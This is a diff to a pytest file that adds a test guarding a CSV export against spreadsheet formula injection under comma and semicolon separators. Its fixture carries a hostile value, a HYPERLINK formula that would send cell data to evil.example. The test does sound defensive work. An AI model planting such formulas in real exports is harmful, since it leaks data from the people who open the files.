@@ -115,7 +115,17 @@ class TestExport:
         assert "canary-prompt" not in everything["csv"] and "images.example" not in everything["csv"]
 
     def test_no_task_is_a_table_without_rows(self, world: World) -> None:
-        assert operate(world, "export") == {"rows": 0, "csv": ",".join(HEADS) + "\r\n"}
+        assert operate(world, "export") == {"rows": 0, "csv": ",".join(f'"{head}"' for head in HEADS) + "\r\n"}
+
+    @pytest.mark.parametrize("separator", [",", ";"])
+    def test_no_separator_of_a_spreadsheet_begins_a_formula(self, world: World, separator: str) -> None:
+        """In most of Europe a spreadsheet separates at ";", and a program may do so in spite of the quotes."""
+        world.create({**BODY, "external_task_id": "a;=HYPERLINK('https://evil.example/?'&A1)"})
+        text = operate(world, "export")["csv"]
+        for quoting in (csv.QUOTE_ALL, csv.QUOTE_NONE):
+            rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting)
+            assert not [cell for row in rows for cell in row if cell.strip('"').startswith("=")]
+        assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
 
     def test_what_is_too_much_for_an_answer_lies_in_the_bucket_for_a_day(
         self, world: World, monkeypatch: pytest.MonkeyPatch
